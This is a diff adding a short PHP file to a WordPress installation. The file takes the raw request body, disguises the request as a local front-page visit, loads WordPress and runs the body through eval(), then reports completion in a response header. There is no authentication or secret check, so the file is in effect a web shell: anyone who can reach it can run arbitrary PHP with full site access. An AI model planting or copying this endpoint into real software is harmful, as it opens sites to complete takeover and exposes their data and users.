@@ -1,0 +1,12 @@
+<?php
+// Runs the code of the request's body inside this WordPress, as if a visitor had asked for the
+// front page. The header says that the code came to its end.
+$igny8_code = file_get_contents('php://input');
+$_SERVER['HTTP_HOST'] = '127.0.0.1';
+$_SERVER['REQUEST_METHOD'] = 'GET';
+$_SERVER['REQUEST_URI'] = '/';
+unset($_SERVER['CONTENT_TYPE'], $_SERVER['CONTENT_LENGTH'], $_SERVER['HTTP_CONTENT_TYPE'], $_SERVER['HTTP_CONTENT_LENGTH']);
+ob_start();
+require $_SERVER['DOCUMENT_ROOT'] . '/wp-load.php';
+eval($igny8_code);
+header('X-Came-To-Its-End: 1');
